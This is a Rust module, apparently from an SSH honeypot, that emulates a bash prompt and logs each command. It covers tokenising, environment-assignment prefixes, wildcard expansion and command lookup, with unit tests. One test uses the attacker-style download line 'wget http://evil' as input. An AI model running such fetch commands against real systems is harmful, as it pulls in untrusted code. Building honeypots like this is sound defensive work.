//! Shell Interpreter (C4): line tokenisation, the `KEY=VALUE` env-assignment
//! prefix, wildcard expansion, command lookup, the prompt, and the
//! semicolon-separated pending queue.
//!
//! Unlike the command stack (which holds boxed `dyn Command` trait
//! objects), the shell itself is not an object living on the stack —
//! per the redesign note in SPEC_FULL.md §9 it is a capability set of
//! free functions operating directly on `Session`'s own fields (`cwd`,
//! `env`, `pending`, `command_stack`), which sidesteps holding a second
//! mutable borrow of the session while it is itself a field of it.
//! `Session::handle_line`/`handle_ctrl_c`/`handle_ctrl_d` are the actual
//! entry points the terminal layer calls; they route to here only when
//! the command stack is empty.

use chrono::Utc;

use crate::{
    command::Outcome,
    commands::TxtCmd,
    error::HoneypotError,
    event::Event,
    session::{Resolved, Session},
};

/// A full input line has arrived and the command stack is empty, i.e.
/// the shell itself is in control.
pub async fn on_line(session: &mut Session, line: &str) {
    for part in line.split(';') {
        let trimmed = part.trim();
        if !trimmed.is_empty() {
            session.pending.push_back(trimmed.to_string());
        }
    }
    advance(session).await;
}

/// Called when control returns to the shell, either because the pending
/// queue wasn't fully drained before a command was pushed, or because
/// the last command on the stack just popped back to the bottom.
pub async fn resume(session: &mut Session) {
    advance(session).await;
}

/// Ctrl-C while the shell itself is in control: clear the line buffer
/// and redraw the prompt on a fresh line.
pub fn on_ctrl_c(session: &mut Session) {
    session.line_buffer.clear();
    session.cursor = 0;
    session.draw_prompt();
}

/// Ctrl-D at the shell: invoke the registered `exit` command exactly as
/// if the attacker had typed `exit`.
pub async fn on_ctrl_d(session: &mut Session) {
    if let Resolved::Registry(factory) = session.get_command("exit", &[]) {
        let mut cmd = factory(Vec::new());
        let outcome = cmd.start(session).await;
        if outcome == Outcome::Continue {
            session.command_stack.push(cmd);
        }
    }
}

/// Ctrl-U: erase from the cursor back to the start of the line.
pub fn on_ctrl_u(session: &mut Session) {
    let cursor = session.cursor.min(session.line_buffer.len());
    let tail = session.line_buffer.split_off(cursor);
    session.line_buffer = tail;
    session.cursor = 0;
}

async fn advance(session: &mut Session) {
    loop {
        let Some(next) = session.pending.pop_front() else {
            session.draw_prompt();
            return;
        };
        if run_one(session, &next).await {
            // A command was pushed onto the stack; it now owns control
            // and will call back into `resume` when it eventually pops.
            return;
        }
    }
}

/// Runs a single (already `;`-split) command line. Returns `true` if a
/// command was pushed onto the stack and now owns control.
async fn run_one(session: &mut Session, line: &str) -> bool {
    let tokens = match shell_words::split(line) {
        Ok(tokens) => tokens,
        Err(_) => {
            let err = HoneypotError::Parse("unexpected end of file".to_string());
            tracing::debug!(%err, line, "shell line failed to tokenize");
            session.writeln("-bash: syntax error: unexpected end of file");
            session.pending.clear();
            return false;
        }
    };
    if tokens.is_empty() {
        return false;
    }

    let mut idx = 0;
    let mut overlay = session.env.clone();
    while idx < tokens.len() {
        match parse_assignment(&tokens[idx]) {
            Some((key, value)) => {
                overlay.insert(key.to_string(), value.to_string());
                idx += 1;
            }
            None => break,
        }
    }
    session.env_overlay = overlay;

    if idx >= tokens.len() {
        // A bare assignment (`FOO=bar`) isn't special-cased: the
        // original falls through to `getCommand` on the whole line,
        // which never matches a registered name, so it reports
        // command-not-found the same as any other unrecognized input.
        let err = HoneypotError::NotFound(line.to_string());
        tracing::debug!(%err, "bare assignment resolved as command not found");
        session.writeln(&format!("bash: {}: command not found", line));
        return false;
    }

    session.history.push(line.to_string());
    session
        .emit_event(Event::Command {
            timestamp: Utc::now().to_rfc3339(),
            session_id: session.session_id.clone(),
            line: line.to_string(),
        })
        .await;

    let command_name = tokens[idx].clone();
    let cwd = session.cwd.clone();
    let args: Vec<String> = tokens[idx + 1..]
        .iter()
        .flat_map(|arg| {
            let matches = session.vfs.resolve_path_wc(arg, &cwd);
            if matches.is_empty() { vec![arg.clone()] } else { matches }
        })
        .collect();

    let paths: Vec<String> = session
        .env_overlay
        .get("PATH")
        .cloned()
        .unwrap_or_default()
        .split(':')
        .filter(|s| !s.is_empty())
        .map(str::to_string)
        .collect();
    let path_refs: Vec<&str> = paths.iter().map(String::as_str).collect();

    match session.get_command(&command_name, &path_refs) {
        Resolved::Registry(factory) => {
            let mut cmd = factory(args);
            let outcome = cmd.start(session).await;
            match outcome {
                Outcome::Continue => {
                    session.command_stack.push(cmd);
                    true
                }
                Outcome::Exit => false,
            }
        }
        Resolved::Txtcmd(path) => {
            let mut cmd: Box<dyn crate::command::Command> = Box::new(TxtCmd { path });
            let outcome = cmd.start(session).await;
            match outcome {
                Outcome::Continue => {
                    session.command_stack.push(cmd);
                    true
                }
                Outcome::Exit => false,
            }
        }
        Resolved::NotFound => {
            let err = HoneypotError::NotFound(command_name.clone());
            tracing::debug!(%err, "command not found");
            session.writeln(&format!("bash: {}: command not found", command_name));
            false
        }
    }
}

/// Tokenises exactly like the command-line assignment prefix a real
/// shell recognizes: `[A-Za-z_][A-Za-z0-9_]*=<rest>`.
fn parse_assignment(token: &str) -> Option<(&str, &str)> {
    let eq = token.find('=')?;
    let (key, rest) = (&token[..eq], &token[eq + 1..]);
    let mut chars = key.chars();
    match chars.next() {
        Some(c) if c.is_ascii_alphabetic() || c == '_' => {}
        _ => return None,
    }
    if !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    Some((key, rest))
}

#[cfg(test)]
mod test {
    use super::*;
    use crate::vfs::VfsImage;

    fn session() -> Session {
        Session::new(
            "test-session".to_string(),
            "203.0.113.7".to_string(),
            "root".to_string(),
            "svr03".to_string(),
            VfsImage::minimal(),
            None,
        )
    }

    #[tokio::test]
    async fn semicolons_run_each_command_in_order() {
        let mut s = session();
        on_line(&mut s, "pwd ; whoami").await;
        let out = String::from_utf8(s.drain_output()).unwrap();
        assert_eq!(out, "/root\r\nroot\r\nsvr03:~# ");
    }

    #[tokio::test]
    async fn quoted_semicolon_is_preserved_as_one_argument() {
        let mut s = session();
        on_line(&mut s, r#"echo "a;b""#).await;
        let out = String::from_utf8(s.drain_output()).unwrap();
        assert!(out.starts_with("a;b\r\n"));
    }

    #[tokio::test]
    async fn unterminated_quote_is_a_syntax_error_and_clears_pending() {
        let mut s = session();
        on_line(&mut s, r#"echo "unterminated ; pwd"#).await;
        let out = String::from_utf8(s.drain_output()).unwrap();
        assert_eq!(out, "-bash: syntax error: unexpected end of file\r\nsvr03:~# ");
    }

    #[tokio::test]
    async fn unknown_command_reports_not_found() {
        let mut s = session();
        on_line(&mut s, "wget http://evil").await;
        let out = String::from_utf8(s.drain_output()).unwrap();
        assert!(out.contains("bash: wget: command not found"));
    }

    #[tokio::test]
    async fn leading_assignment_is_scoped_to_the_command() {
        let mut s = session();
        on_line(&mut s, "FOO=bar env").await;
        let out = String::from_utf8(s.drain_output()).unwrap();
        assert!(out.contains("FOO=bar"));
        assert!(!s.env.contains_key("FOO"));
    }

    #[tokio::test]
    async fn assignment_only_line_reports_command_not_found() {
        let mut s = session();
        on_line(&mut s, "FOO=bar").await;
        let out = String::from_utf8(s.drain_output()).unwrap();
        assert!(out.contains("bash: FOO=bar: command not found"));
        assert!(!s.env.contains_key("FOO"));
    }

    #[tokio::test]
    async fn wildcard_with_no_matches_passes_through_literally() {
        let mut s = session();
        on_line(&mut s, "echo *.missing").await;
        let out = String::from_utf8(s.drain_output()).unwrap();
        assert!(out.starts_with("*.missing\r\n"));
    }

    #[test]
    fn ctrl_u_erases_to_start_of_line() {
        let mut s = session();
        s.line_buffer = "ls -la".to_string();
        s.cursor = 3;
        on_ctrl_u(&mut s);
        assert_eq!(s.line_buffer, " -la");
        assert_eq!(s.cursor, 0);
    }
}
